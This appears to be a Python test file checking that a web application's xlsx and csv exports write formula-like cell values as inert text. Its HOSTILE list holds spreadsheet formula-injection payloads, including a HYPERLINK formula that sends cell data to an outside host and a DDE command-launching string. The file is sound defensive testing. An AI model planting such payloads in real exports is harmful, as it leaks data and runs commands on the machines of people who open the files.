"""Issue 15, item 4: every export writes a cell that starts with = + - @ (or tab/CR) as text, never as
a formula (a resident's name like =HYPERLINK("http://e.cn/?"&C2,"详") must not become a live link)."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from quanmin.core import excel
from quanmin.facilities.models import Equipment, Site

HOSTILE = ['=HYPERLINK("http://e.cn/?"&C2,"详")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def assert_inert_xlsx(data: bytes, expected: str):
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    hit = [c for c in cells if c.value == expected]
    assert hit and all(c.data_type == "s" and c.quotePrefix for c in hit)


def test_helper_writes_formula_like_text_as_text():
    fh = excel.write_workbook([("t", ["a"], [[v] for v in HOSTILE] + [[-5], [3.5]])])
    data = fh.read()
    assert "<f>" not in sheet_xml(data)
    values = [r[0] for r in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)]
    # Numbers stay numbers, text stays as it was (XML reads a carriage return back as a line feed).
    assert values[1:6] == HOSTILE[:5] and values[6] == "\n=1+1" and values[7:] == [-5, 3.5]
    lines = list(csv.reader(io.StringIO("".join(excel.csv_lines(["a"], [[v] for v in HOSTILE] + [[-5]])))))
    assert all(line[0].startswith("'") for line in lines[1:-1]) and lines[-1] == ["-5"]


def test_people_export_writes_hostile_name_as_text(world, client_for):
    resident = world.users["resident"]
    resident.real_name = HOSTILE[0]
    resident.save(update_fields=["real_name"])
    data = b"".join(client_for("county").get("/api/v1/users/export.xlsx").streaming_content)
    assert_inert_xlsx(data, HOSTILE[0])


def test_facilities_exports_write_hostile_manager_as_text(world, client_for):
    Site.objects.filter(pk=world.site.pk).update(manager=HOSTILE[1])
    client = client_for("county")
    assert_inert_xlsx(b"".join(client.get("/api/v1/facilities/export.xlsx").streaming_content), HOSTILE[1])
    text = b"".join(client.get("/api/v1/facilities/export.csv").streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert HOSTILE[1] not in cells and "'" + HOSTILE[1] in cells


def test_equipment_export_writes_hostile_note_as_text(equipment, client_for):
    Equipment.objects.filter(pk=equipment.pieces[0].pk).update(note=HOSTILE[3])
    data = b"".join(client_for("county").get("/api/v1/equipment/export.xlsx").streaming_content)
    assert_inert_xlsx(data, HOSTILE[3])
